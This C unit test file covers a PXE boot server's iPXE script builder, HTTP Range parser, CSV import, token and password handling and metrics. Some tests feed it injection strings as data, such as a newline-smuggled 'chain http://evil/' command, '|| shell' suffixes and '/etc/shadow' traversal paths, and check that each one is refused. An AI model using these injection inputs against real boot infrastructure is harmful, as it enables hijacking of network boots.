/* Unit tests for the HTTP module's pure parts: the iPXE boot script
 * builder (with report URL and PXEPassword prompt), the Range parser
 * (RFC 9110 §14), the field validators, the CSV device line parser, the
 * token compare, the password hash and attempt limiter, the report table
 * and the Prometheus formatting. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "decide/decide.h"
#include "http/boot_script.h"
#include "conf/conf.h"
#include "http/http_auth.h"
#include "http/http_metrics.h"
#include "http/http_parse.h"
#include "http/http_report.h"
#include "store/store.h"
#include "tmpdb.h"

#define BASE "http://10.0.0.5:8080"

static struct decision boot_kernel(bool required)
{
	struct decision d = { .outcome = DECISION_BOOT, .required = required, .device_id = 1,
			      .deployment_id = 2 };
	strcpy(d.reason, "required deployment for device 'lab-01'");
	strcpy(d.device_name, "lab-01");
	strcpy(d.deployment_name, "deb12-lab");
	strcpy(d.image_name, "debian-12");
	strcpy(d.kernel, "debian/linux");
	strcpy(d.initrd, "debian/initrd.gz");
	strcpy(d.cmdline, "auto=true priority=critical url=http://10.0.0.5/preseed.cfg");
	return d;
}

static void test_script_required_kernel(void **state)
{
	struct decision d = boot_kernel(true);
	char buf[2048];
	int n = boot_script_build(&d, BASE, buf, sizeof(buf));
	assert_true(n > 0);
	assert_int_equal((size_t)n, strlen(buf));
	assert_true(strncmp(buf, "#!ipxe\n", 7) == 0);
	assert_non_null(strstr(buf, "\nkernel " BASE "/files/debian/linux initrd=initrd.gz auto=true priority=critical "
				    "url=http://10.0.0.5/preseed.cfg\n"));
	assert_non_null(strstr(buf, "\ninitrd " BASE "/files/debian/initrd.gz\n"));
	assert_non_null(strstr(buf, "\nboot\n"));
	assert_null(strstr(buf, "prompt"));
	assert_null(strstr(buf, "exit"));
}

static void test_script_no_initrd_no_cmdline(void **state)
{
	struct decision d = boot_kernel(true);
	char buf[2048];
	d.initrd[0] = d.cmdline[0] = '\0';
	assert_true(boot_script_build(&d, BASE, buf, sizeof(buf)) > 0);
	assert_non_null(strstr(buf, "\nkernel " BASE "/files/debian/linux\n"));
	assert_null(strstr(buf, "initrd"));
}

static void test_script_nbp(void **state)
{
	struct decision d = boot_kernel(true);
	char buf[2048];
	d.kernel[0] = d.initrd[0] = d.cmdline[0] = '\0';
	strcpy(d.nbp, "ipxe/snp+x64.efi");
	assert_true(boot_script_build(&d, BASE, buf, sizeof(buf)) > 0);
	/* '+' is not unreserved: it is percent-encoded. */
	assert_non_null(strstr(buf, "\nchain " BASE "/files/ipxe/snp%2Bx64.efi\n"));
	assert_null(strstr(buf, "kernel"));
}

#define AGAIN BASE "/boot.ipxe?mac=52:54:00:12:34:56&arch=7"

/* Available: the prompt's answer goes back to pxed (which records it);
 * no image line is in the prompt script at all. */
static void test_script_available_prompts(void **state)
{
	struct decision d = boot_kernel(false);
	struct boot_script_opts o = { .choice_url = AGAIN };
	char buf[2048];
	const char *p, *local, *deploy;
	assert_true(boot_script_build_opts(&d, BASE, &o, buf, sizeof(buf)) > 0);
	assert_string_equal(buf,
			    "#!ipxe\n"
			    "echo pxed: deployment deb12-lab (image debian-12) is available\n"
			    "prompt --key 0x0d --timeout 10000 Press Enter within 10 s to start "
			    "deployment deb12-lab, or wait to boot from local disk... && goto deploy "
			    "|| goto local\n"
			    ":deploy\n"
			    "chain " AGAIN "&choice=deploy || goto local\n"
			    ":local\n"
			    "echo pxed: booting from local disk\n"
			    "chain " AGAIN "&choice=local || exit 1\n"
			    "exit 1\n");
	p = strstr(buf, "\nprompt --key 0x0d --timeout 10000 ");
	deploy = strstr(buf, "\n:deploy\n");
	local = strstr(buf, "\n:local\n");
	assert_true(p && p < deploy && deploy < local);
	assert_null(strstr(buf, "kernel"));
	/* without a URL to answer to, no prompt pxed could not record */
	assert_int_equal(boot_script_build(&d, BASE, buf, sizeof(buf)), -EINVAL);
	assert_string_equal(buf, "");
	/* the URL is checked like pxed's other URLs */
	o.choice_url = BASE "/boot.ipxe?mac=${net0/mac}";
	assert_int_equal(boot_script_build_opts(&d, BASE, &o, buf, sizeof(buf)), -EINVAL);
	/* choice=deploy came back: the image, no second prompt */
	o.choice_url = AGAIN;
	o.confirmed = true;
	assert_true(boot_script_build_opts(&d, BASE, &o, buf, sizeof(buf)) > 0);
	assert_null(strstr(buf, "prompt"));
	assert_non_null(strstr(buf, "echo pxed: starting available deployment deb12-lab"));
	assert_non_null(strstr(buf, "\nkernel " BASE "/files/debian/linux"));
}

static void test_script_local_and_ignore(void **state)
{
	struct decision d = { .outcome = DECISION_LOCAL };
	char buf[512];
	strcpy(d.reason, "required deployment 'x' already handed out");
	assert_true(boot_script_build(&d, BASE, buf, sizeof(buf)) > 0);
	assert_string_equal(buf, "#!ipxe\necho pxed: booting from local disk (required "
				 "deployment x already handed out)\nexit 1\n");
	d.outcome = DECISION_IGNORE;
	strcpy(d.reason, "unknown machine, SupportUnknownMachines is off");
	assert_true(boot_script_build(&d, BASE, buf, sizeof(buf)) > 0);
	assert_string_equal(buf, "#!ipxe\necho pxed: not serviced (unknown machine, "
				 "SupportUnknownMachines is off)\nexit 1\n");
}

static void test_script_reason_injection(void **state)
{
	struct decision d = { .outcome = DECISION_LOCAL };
	char buf[512];
	strcpy(d.reason, "x\nchain http://evil/x ${net0/mac} || shell ; echo \"a\\b\" #");
	assert_true(boot_script_build(&d, BASE, buf, sizeof(buf)) > 0);
	/* exactly three lines, nothing iPXE would interpret */
	assert_null(strstr(buf, "\nchain"));
	assert_null(strpbrk(buf + 7, "${}|;\"\\#&"));
	assert_string_equal(strchr(buf + 7, '\n'), "\nexit 1\n");
}

static void test_script_refuses_hostile_fields(void **state)
{
	char buf[2048];
	static const char *const bad_cmdline[] = {
		"quiet\nchain http://evil/", "a ${root-path}", "a || shell", "a ; shell",
		"a && shell", "\"quoted\"", "a\\nb", "a\rb", "caf\xc3\xa9", "a # b",
	};
	static const char *const bad_path[] = {
		"", "/etc/shadow", "../secret", "a/../../b", "a b", "a\nb", "a//b", "a/", "x${y}",
		"a\\b", ".",
	};
	static const char *const bad_name[] = { "", "a b", "a\nkernel x", "${x}", "a;b" };
	for (size_t i = 0; i < ARRAY_SIZE(bad_cmdline); i++) {
		struct decision d = boot_kernel(true);
		strcpy(d.cmdline, bad_cmdline[i]);
		assert_int_equal(boot_script_build(&d, BASE, buf, sizeof(buf)), -EINVAL);
		assert_string_equal(buf, "");
	}
	for (size_t i = 0; i < ARRAY_SIZE(bad_path); i++) {
		struct decision d = boot_kernel(true);
		strcpy(d.kernel, bad_path[i]);
		assert_int_equal(boot_script_build(&d, BASE, buf, sizeof(buf)), -EINVAL);
		d = boot_kernel(true);
		strcpy(d.initrd, bad_path[i]);
		if (bad_path[i][0]) /* an empty initrd is fine: no initrd line */
			assert_int_equal(boot_script_build(&d, BASE, buf, sizeof(buf)), -EINVAL);
		d = boot_kernel(true);
		strcpy(d.nbp, bad_path[i]);
		if (bad_path[i][0])
			assert_int_equal(boot_script_build(&d, BASE, buf, sizeof(buf)), -EINVAL);
	}
	for (size_t i = 0; i < ARRAY_SIZE(bad_name); i++) {
		static const struct boot_script_opts o = { .choice_url = AGAIN };
		struct decision d = boot_kernel(false);
		strcpy(d.deployment_name, bad_name[i]);
		assert_int_equal(boot_script_build_opts(&d, BASE, &o, buf, sizeof(buf)), -EINVAL);
		d = boot_kernel(false);
		strcpy(d.image_name, bad_name[i]);
		assert_int_equal(boot_script_build_opts(&d, BASE, &o, buf, sizeof(buf)), -EINVAL);
	}
}

static void test_script_hostile_base_url(void **state)
{
	static const char *const bad[] = {
		"http://", "ftp://x", "http://a b", "http://x\nshell", "http://${ip}", "http://a/b",
		"http://a?b", "http://a;b", "",
	};
	struct decision d = boot_kernel(true);
	char buf[2048];
	for (size_t i = 0; i < ARRAY_SIZE(bad); i++)
		assert_int_equal(boot_script_build(&d, bad[i], buf, sizeof(buf)), -EINVAL);
	assert_true(boot_script_build(&d, "http://[fe80::1]:8080", buf, sizeof(buf)) > 0);
	assert_true(boot_script_build(&d, "http://pxe.example.org", buf, sizeof(buf)) > 0);
}

static void test_script_enobufs_every_size(void **state)
{
	static const struct boot_script_opts o = { .choice_url = AGAIN };
	struct decision d = boot_kernel(false);
	char full[2048], buf[2048];
	int n = boot_script_build_opts(&d, BASE, &o, full, sizeof(full));
	assert_true(n > 0);
	for (size_t len = 0; len <= (size_t)n; len++) {
		char *b = len ? malloc(len) : NULL;
		assert_int_equal(boot_script_build_opts(&d, BASE, &o, b, len), -ENOBUFS);
		free(b);
	}
	assert_int_equal(boot_script_build_opts(&d, BASE, &o, buf, (size_t)n + 1), n);
	assert_string_equal(buf, full);
}

/* Range vectors.  RFC 9110 §14.1.2 examples use a 10000-byte representation. */
struct range_vec {
	const char *hdr;
	uint64_t size;
	int rc;
	uint64_t start, end;
};

static const struct range_vec range_vecs[] = {
	/* §14.1.2 examples */
	{ "bytes=0-499", 10000, HTTP_RANGE_PARTIAL, 0, 499 },
	{ "bytes=500-999", 10000, HTTP_RANGE_PARTIAL, 500, 999 },
	{ "bytes=-500", 10000, HTTP_RANGE_PARTIAL, 9500, 9999 },
	{ "bytes=9500-", 10000, HTTP_RANGE_PARTIAL, 9500, 9999 },
	{ "bytes=0-0,-1", 10000, HTTP_RANGE_IGNORE, 0, 0 },       /* two ranges: whole */
	{ "bytes= 0-999, 4500-5499, -1000", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=500-600,601-999", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=500-700,601-999", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	/* clipping and edges */
	{ "bytes=0-", 10000, HTTP_RANGE_PARTIAL, 0, 9999 },
	{ "bytes=0-0", 10000, HTTP_RANGE_PARTIAL, 0, 0 },
	{ "bytes=9999-9999", 10000, HTTP_RANGE_PARTIAL, 9999, 9999 },
	{ "bytes=9000-20000", 10000, HTTP_RANGE_PARTIAL, 9000, 9999 },
	{ "bytes=-20000", 10000, HTTP_RANGE_PARTIAL, 0, 9999 },
	{ "BYTES=1-2", 10000, HTTP_RANGE_PARTIAL, 1, 2 },
	{ "bytes=1-2 ", 10000, HTTP_RANGE_PARTIAL, 1, 2 },
	{ "bytes=,1-2,", 10000, HTTP_RANGE_PARTIAL, 1, 2 },
	{ "bytes=0-99999999999999999999999999", 10000, HTTP_RANGE_PARTIAL, 0, 9999 },
	{ "bytes=-99999999999999999999999999", 10000, HTTP_RANGE_PARTIAL, 0, 9999 },
	/* unsatisfiable (§15.5.17) */
	{ "bytes=10000-", 10000, HTTP_RANGE_UNSATISFIABLE, 0, 0 },
	{ "bytes=10000-10001", 10000, HTTP_RANGE_UNSATISFIABLE, 0, 0 },
	{ "bytes=-0", 10000, HTTP_RANGE_UNSATISFIABLE, 0, 0 },
	{ "bytes=0-", 0, HTTP_RANGE_UNSATISFIABLE, 0, 0 },
	{ "bytes=-5", 0, HTTP_RANGE_UNSATISFIABLE, 0, 0 },
	{ "bytes=20000-,30000-", 10000, HTTP_RANGE_UNSATISFIABLE, 0, 0 },
	{ "bytes=99999999999999999999999999-", 10000, HTTP_RANGE_UNSATISFIABLE, 0, 0 },
	/* ignored: unknown unit or invalid syntax (§14.2) */
	{ "items=0-5", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=-", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=5", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=500-499", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=a-b", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=+1-2", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=1--2", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=-1-2", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=0x10-20", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=1-2;3", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes = 1-2", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "bytes=1 -2", 10000, HTTP_RANGE_IGNORE, 0, 0 },
	{ "", 10000, HTTP_RANGE_IGNORE, 0, 0 },
};

static void test_range_vectors(void **state)
{
	for (size_t i = 0; i < ARRAY_SIZE(range_vecs); i++) {
		const struct range_vec *v = &range_vecs[i];
		uint64_t s = 12345, e = 12345;
		int rc = http_range_parse(v->hdr, v->size, &s, &e);
		if (rc != v->rc)
			fail_msg("'%s' size %llu: rc %d, expected %d", v->hdr,
				 (unsigned long long)v->size, rc, v->rc);
		if (rc == HTTP_RANGE_PARTIAL) {
			assert_int_equal(s, v->start);
			assert_int_equal(e, v->end);
			assert_true(s <= e && e < v->size);
		}
	}
	assert_int_equal(http_range_parse(NULL, 10, NULL, NULL), HTTP_RANGE_IGNORE);
}

static void test_range_long_list(void **state)
{
	/* 1000 ranges: bounded work, ignored */
	char *h = malloc(16 + 1000 * 4);
	uint64_t s, e;
	strcpy(h, "bytes=");
	for (int i = 0; i < 1000; i++)
		strcat(h, "1-2,");
	assert_int_equal(http_range_parse(h, 10000, &s, &e), HTTP_RANGE_IGNORE);
	free(h);
}

static void test_range_prefixes(void **state)
{
	/* every prefix of a valid header parses without reading past its end */
	const char *full = "bytes=123-4567";
	for (size_t n = 0; n <= strlen(full); n++) {
		char *p = malloc(n + 1);
		uint64_t s, e;
		int rc;
		memcpy(p, full, n);
		p[n] = '\0';
		rc = http_range_parse(p, 10000, &s, &e);
		assert_true(rc == HTTP_RANGE_PARTIAL || rc == HTTP_RANGE_IGNORE);
		free(p);
	}
}

static void test_cmdline_valid(void **state)
{
	assert_true(http_cmdline_valid(""));
	assert_true(http_cmdline_valid("console=ttyS0,115200n8 root=/dev/nfs ip=dhcp quiet"));
	assert_false(http_cmdline_valid(NULL));
	assert_false(http_cmdline_valid("a\tb"));
	assert_false(http_cmdline_valid("a`b`"));
	assert_false(http_cmdline_valid("a{b}"));
}

/* ---- boot script options ------------------------------------------------ */

static void test_script_report_url(void **state)
{
	struct decision d = boot_kernel(true);
	struct boot_script_opts o = { .report_url = BASE "/api/v1/report?token=0123abcd" };
	char buf[4096];
	assert_true(boot_script_build_opts(&d, BASE, &o, buf, sizeof(buf)) > 0);
	assert_non_null(strstr(buf, "preseed.cfg pxed.report=" BASE "/api/v1/report?token=0123abcd\n"));
	/* anything iPXE would expand or split is refused */
	o.report_url = BASE "/api/v1/report?token=${net0/mac}";
	assert_int_equal(boot_script_build_opts(&d, BASE, &o, buf, sizeof(buf)), -EINVAL);
	o.report_url = BASE "/x y";
	assert_int_equal(boot_script_build_opts(&d, BASE, &o, buf, sizeof(buf)), -EINVAL);
}

static void test_script_password_prompt(void **state)
{
	struct decision d = boot_kernel(true);
	struct boot_script_opts o = { .password_url = BASE "/boot.ipxe?mac=52:54:00:12:34:56&arch=7",
				      .notice = "wrong password; try ${again}" };
	char buf[4096];
	assert_true(boot_script_build_opts(&d, BASE, &o, buf, sizeof(buf)) > 0);
	assert_null(strstr(buf, "kernel "));
	assert_non_null(strstr(buf, "\nlogin || goto local\n"));
	assert_non_null(strstr(buf, "\nchain " BASE "/boot.ipxe?mac=52:54:00:12:34:56&arch=7"
				    "&password=${password:uristring} || goto local\n"));
	/* the notice is free text: no expansion survives */
	assert_non_null(strstr(buf, "echo pxed: wrong password, try __again_\n"));
	/* available: the prompt first, nothing about the password ... */
	d = boot_kernel(false);
	o.notice = NULL;
	o.choice_url = AGAIN;
	assert_true(boot_script_build_opts(&d, BASE, &o, buf, sizeof(buf)) > 0);
	assert_non_null(strstr(buf, "prompt --key 0x0d"));
	assert_non_null(strstr(buf, "\nchain " AGAIN "&choice=deploy || goto local\n"));
	assert_null(strstr(buf, "login"));
	assert_null(strstr(buf, "kernel "));
	/* ... then, after choice=deploy, the password (the chain keeps the choice) */
	o.password_url = AGAIN "&choice=deploy";
	o.confirmed = true;
	assert_true(boot_script_build_opts(&d, BASE, &o, buf, sizeof(buf)) > 0);
	assert_null(strstr(buf, "prompt"));
	assert_non_null(strstr(buf, "echo pxed: deployment deb12-lab needs the PXE password"));
	assert_non_null(strstr(buf, "\nchain " AGAIN "&choice=deploy&password=${password:uristring}"));
	assert_null(strstr(buf, "kernel "));
	/* confirmed: no second prompt */
	o.password_url = NULL;
	o.confirmed = true;
	assert_true(boot_script_build_opts(&d, BASE, &o, buf, sizeof(buf)) > 0);
	assert_null(strstr(buf, "prompt"));
	assert_non_null(strstr(buf, "\nkernel " BASE "/files/debian/linux"));
}

/* ---- CSV ----------------------------------------------------------------- */

struct csv_case {
	const char *line;
	int rc;
	const char *why; /* substring */
};

static void test_csv_lines(void **state)
{
	static const struct csv_case v[] = {
		{ "lab-01,52:54:00:12:34:56", 0, NULL },
		{ " lab-01 , 52-54-00-12-34-56 , 8a3c1f2e-0000-4000-8000-525400123456 \r", 0, NULL },
		{ "lab-01,52:54:00:12:34:56,", 0, NULL },
		{ "", 1, NULL },
		{ "   \t", 1, NULL },
		{ "# comment", 1, NULL },
		{ "lab-01", -EINVAL, "expected name,mac" },
		{ ",52:54:00:12:34:56", -EINVAL, "name" },
		{ "a b,52:54:00:12:34:56", -EINVAL, "name" },
		{ "lab-01,52:54:00:12:34", -EINVAL, "mac" },
		{ "lab-01,52:54:00:12:34:56,xyz", -EINVAL, "guid" },
		{ "lab-01,52:54:00:12:34:56,,", -EINVAL, "more than 3" },
		{ "\"lab-01\",52:54:00:12:34:56", -EINVAL, "name" },
		{ "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa,52:54:00:12:34:56",
		  -EINVAL, "name" },
	};
	struct http_csv_device d;
	char why[160];
	for (size_t i = 0; i < sizeof(v) / sizeof(v[0]); i++) {
		why[0] = '\0';
		int rc = http_csv_device_parse(v[i].line, strlen(v[i].line), &d, why, sizeof(why));
		if (rc != v[i].rc)
			fail_msg("line '%s': rc %d, want %d (%s)", v[i].line, rc, v[i].rc, why);
		if (v[i].why)
			assert_non_null(strstr(why, v[i].why));
	}
	assert_int_equal(http_csv_device_parse("lab-01,52:54:00:12:34:56,8a3c1f2e-0000-4000-8000-525400123456",
					       61, &d, why, sizeof(why)), 0);
	assert_string_equal(d.name, "lab-01");
	assert_int_equal(d.mac[5], 0x56);
	assert_true(d.has_guid);
	/* a NUL inside the line is refused, not cut short */
	assert_int_equal(http_csv_device_parse("lab-01\0x,52:54:00:12:34:56", 26, &d, why, sizeof(why)),
			 -EINVAL);
	/* every prefix of a valid line parses or fails cleanly (ASan checks bounds) */
	const char *full = "lab-01,52:54:00:12:34:56,8a3c1f2e-0000-4000-8000-525400123456";
	for (size_t n = 0; n <= strlen(full); n++) {
		char *p = malloc(n ? n : 1);
		memcpy(p, full, n);
		int rc = http_csv_device_parse(p, n, &d, why, sizeof(why));
		assert_true(rc == 0 || rc == 1 || rc == -EINVAL);
		free(p);
	}
}

/* ---- token, password ------------------------------------------------------- */

static void test_token_equal(void **state)
{
	assert_true(http_token_equal("abc123", "abc123"));
	assert_false(http_token_equal("abc12", "abc123"));
	assert_false(http_token_equal("abc1234", "abc123"));
	assert_false(http_token_equal("abc124", "abc123"));
	assert_false(http_token_equal("", "abc123"));
	assert_false(http_token_equal(NULL, "abc123"));
	assert_false(http_token_equal("", "")); /* no token is never a match */
	assert_string_equal(http_bearer_token("Bearer xyz"), "xyz");
	assert_string_equal(http_bearer_token("bearer   xyz"), "xyz");
	assert_null(http_bearer_token("Basic xyz"));
	assert_null(http_bearer_token("Bearerxyz"));
	assert_null(http_bearer_token("Bearer "));
	assert_null(http_bearer_token(NULL));
}

static void test_token_file(void **state)
{
	char dir[] = "/tmp/pxed-token-XXXXXX", path[64], t1[HTTP_TOKEN_LEN + 1], t2[HTTP_TOKEN_LEN + 1];
	struct stat st;
	bool created;
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/api.token", dir);
	assert_int_equal(http_token_load(path, t1, &created), 0);
	assert_true(created);
	assert_int_equal(strlen(t1), HTTP_TOKEN_LEN);
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_mode & 0777, 0600);
	assert_int_equal(http_token_load(path, t2, &created), 0);
	assert_false(created);
	assert_string_equal(t1, t2);
	chmod(path, 0644); /* readable by others: refused */
	assert_int_equal(http_token_load(path, t2, &created), -EPERM);
	unlink(path);
	rmdir(dir);
}

static void test_password_hash(void **state)
{
	char h[256], h2[256];
	assert_int_equal(conf_password_hash("s3cret pass", h, sizeof(h)), 0);
	assert_memory_equal(h, "$y$", 3);
	assert_null(strstr(h, "s3cret"));
	assert_true(conf_password_verify(h, "s3cret pass"));
	assert_false(conf_password_verify(h, "s3cret pas"));
	assert_false(conf_password_verify(h, ""));
	assert_false(conf_password_verify("", ""));
	assert_int_equal(conf_password_hash("s3cret pass", h2, sizeof(h2)), 0);
	assert_string_not_equal(h, h2); /* salted */
	assert_int_equal(conf_password_hash("x", h, 10), -ENAMETOOLONG);
}

static void test_password_limiter(void **state)
{
	struct http_pw_limiter *l = calloc(1, sizeof(*l));
	const uint8_t ma[6] = { 1, 2, 3, 4, 5, 6 }, mb[6] = { 1, 2, 3, 4, 5, 7 };
	uint8_t a[HTTP_PW_KEY_LEN], b[HTTP_PW_KEY_LEN], k[HTTP_PW_KEY_LEN], k6[HTTP_PW_KEY_LEN];
	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(0x01020304) };
	struct sockaddr_in6 sin6 = { .sin6_family = AF_INET6 };
	http_pw_key_mac(a, ma);
	http_pw_key_mac(b, mb);
	/* an address is its own key, never a MAC's; v4-mapped v6 = v4 */
	assert_int_equal(http_pw_key_addr(k, (struct sockaddr *)&sin), 0);
	assert_memory_not_equal(k, a, HTTP_PW_KEY_LEN);
	memcpy(&sin6.sin6_addr.s6_addr[10], "\xff\xff\x01\x02\x03\x04", 6);
	assert_int_equal(http_pw_key_addr(k6, (struct sockaddr *)&sin6), 0);
	assert_memory_equal(k, k6, HTTP_PW_KEY_LEN);
	sin6.sin6_addr.s6_addr[10] = 0;
	assert_int_equal(http_pw_key_addr(k6, (struct sockaddr *)&sin6), 0);
	assert_memory_not_equal(k, k6, HTTP_PW_KEY_LEN);
	for (int i = 1; i < HTTP_PW_MAX_FAILURES; i++) {
		assert_false(http_pw_failed(l, a, 1000));
		assert_int_equal(http_pw_locked(l, a, 1000), 0);
	}
	assert_true(http_pw_failed(l, a, 2000));
	assert_int_equal(http_pw_locked(l, a, 2000), HTTP_PW_LOCKOUT_MS);
	assert_int_equal(http_pw_locked(l, b, 2000), 0); /* per client */
	assert_int_equal(http_pw_locked(l, a, 2000 + HTTP_PW_LOCKOUT_MS), 0);
	assert_false(http_pw_failed(l, a, 3000 + HTTP_PW_LOCKOUT_MS)); /* count starts over */
	http_pw_succeeded(l, a);
	assert_int_equal(l->lockouts_total, 1);
	assert_int_equal(l->failures_total, HTTP_PW_MAX_FAILURES + 1);
	/* more clients than slots: no crash, newest still tracked */
	for (unsigned i = 0; i < HTTP_PW_SLOTS + 10; i++) {
		uint8_t m[6] = { 2, 0, 0, 0, (uint8_t)(i >> 8), (uint8_t)i };
		http_pw_key_mac(k, m);
		http_pw_failed(l, k, 5000 + i);
	}
	/* the per-address limiter has its own threshold */
	memset(l, 0, sizeof(*l));
	l->max_failures = HTTP_PW_SOURCE_MAX_FAILURES;
	assert_int_equal(http_pw_key_addr(k, (struct sockaddr *)&sin), 0);
	for (int i = 1; i < HTTP_PW_SOURCE_MAX_FAILURES; i++)
		assert_false(http_pw_failed(l, k, 1000));
	assert_true(http_pw_failed(l, k, 1000));
	assert_true(http_pw_locked(l, k, 1001) > 0);
	free(l);
}

static void test_reports(void **state)
{
	struct tmpdb t;
	struct store *st;
	struct store_report b1, b2, got;
	struct store_device dev = { .name = "lab-01", .mac = { 0x52, 0x54, 0, 0, 0, 1 }, .arch = -1 };
	struct store_image im = { .name = "deb", .kernel = "deb/linux" };
	struct store_deployment dep = { .name = "d1", .image_name = "deb", .device_name = "lab-01",
					.purpose = STORE_REQUIRED, .enabled = true };
	enum http_report_state rs;
	assert_int_equal(tmpdb_make(&t), 0);
	assert_int_equal(store_open(t.url, &st), 0);
	assert_int_equal(store_device_add(st, &dev), 0);
	assert_int_equal(store_image_add(st, &im), 0);
	assert_int_equal(store_deployment_add(st, &dep), 0);
	assert_int_equal(http_report_handout(st, dev.id, "lab-01", dep.id, "d1", dev.mac, 1000, &b1), 0);
	assert_int_equal(strlen(b1.token), HTTP_REPORT_TOKEN_LEN);
	assert_int_equal(http_report_find(st, b1.token, &got), 0);
	assert_int_equal(got.id, b1.id);
	assert_string_equal(got.device_name, "lab-01");
	/* the next boot of the same device and deployment replaces the token */
	assert_int_equal(http_report_handout(st, dev.id, "lab-01", dep.id, "d1", dev.mac, 2000, &b2), 0);
	assert_null(strcmp(b1.token, b2.token) ? NULL : "same token");
	assert_int_equal(http_report_find(st, b1.token, &got), -ENOENT);
	assert_int_equal(http_report_find(st, b2.token, &got), 0);
	assert_int_equal(http_report_find(st, "", &got), -ENOENT);
	assert_int_equal(http_report_find(st, NULL, &got), -ENOENT);
	assert_int_equal(http_report_find(st, "0123", &got), -ENOENT);
	assert_int_equal(http_report_state_parse("failed", &rs), 0);
	assert_int_equal(rs, HTTP_REPORT_FAILED);
	assert_int_equal(http_report_state_parse("handed_out", &rs), -EINVAL);
	assert_int_equal(http_report_state_parse("done", &rs), -EINVAL);
	store_close(st);
	tmpdb_remove(&t);
}

/* ---- metrics ------------------------------------------------------------------ */

static void test_metrics_format(void **state)
{
	struct http_counters h = { 0 };
	struct http_metrics_view v = { .http = &h, .uptime_s = 42, .has_tftp = true,
				       .has_cache = true };
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	h.requests[200] = 7;
	h.requests[401] = 2;
	h.decisions[0] = 3;
	h.store_calls = 4;
	h.store_us = 1500000;
	v.tftp.completed = 5;
	v.tftp.bytes = 123456;
	v.cache.hits = 11;
	v.cache.misses = 6;
	v.cache.invalidations = 2;
	v.cache.entries = 4;
	assert_int_equal(http_metrics_format(&v, f), 0);
	fclose(f);
	assert_non_null(strstr(buf, "# TYPE pxed_http_requests_total counter\n"));
	assert_non_null(strstr(buf, "\npxed_http_requests_total{code=\"200\"} 7\n"));
	assert_non_null(strstr(buf, "\npxed_http_requests_total{code=\"401\"} 2\n"));
	assert_null(strstr(buf, "code=\"404\"")); /* zero codes are left out */
	assert_non_null(strstr(buf, "\npxed_decisions_total{via=\"http\",outcome=\"boot\"} 3\n"));
	assert_non_null(strstr(buf, "\npxed_store_call_seconds_sum 1.500000\n"));
	assert_non_null(strstr(buf, "\npxed_tftp_transfers_total{result=\"completed\"} 5\n"));
	assert_non_null(strstr(buf, "\npxed_tftp_sent_bytes_total 123456\n"));
	assert_null(strstr(buf, "pxed_dhcp_")); /* no DHCP server given */
	assert_non_null(strstr(buf, "# TYPE pxed_decision_cache_hits_total counter\n"));
	assert_non_null(strstr(buf, "\npxed_decision_cache_hits_total 11\n"));
	assert_non_null(strstr(buf, "\npxed_decision_cache_misses_total 6\n"));
	assert_non_null(strstr(buf, "\npxed_decision_cache_invalidations_total 2\n"));
	assert_non_null(strstr(buf, "# TYPE pxed_decision_cache_entries gauge\n"));
	assert_non_null(strstr(buf, "\npxed_decision_cache_entries 4\n"));
	/* every sample line is NAME[{labels}] VALUE; every family has HELP and TYPE */
	for (char *save = NULL, *line = strtok_r(buf, "\n", &save); line;
	     line = strtok_r(NULL, "\n", &save)) {
		if (line[0] == '#') {
			assert_true(!strncmp(line, "# HELP pxed_", 12) || !strncmp(line, "# TYPE pxed_", 12));
			continue;
		}
		assert_memory_equal(line, "pxed_", 5);
		assert_non_null(strchr(line, ' '));
	}
	free(buf);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_script_required_kernel),
		cmocka_unit_test(test_script_no_initrd_no_cmdline),
		cmocka_unit_test(test_script_nbp),
		cmocka_unit_test(test_script_available_prompts),
		cmocka_unit_test(test_script_local_and_ignore),
		cmocka_unit_test(test_script_reason_injection),
		cmocka_unit_test(test_script_refuses_hostile_fields),
		cmocka_unit_test(test_script_hostile_base_url),
		cmocka_unit_test(test_script_enobufs_every_size),
		cmocka_unit_test(test_range_vectors),
		cmocka_unit_test(test_range_long_list),
		cmocka_unit_test(test_range_prefixes),
		cmocka_unit_test(test_cmdline_valid),
		cmocka_unit_test(test_script_report_url),
		cmocka_unit_test(test_script_password_prompt),
		cmocka_unit_test(test_csv_lines),
		cmocka_unit_test(test_token_equal),
		cmocka_unit_test(test_token_file),
		cmocka_unit_test(test_password_hash),
		cmocka_unit_test(test_password_limiter),
		cmocka_unit_test(test_reports),
		cmocka_unit_test(test_metrics_format),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
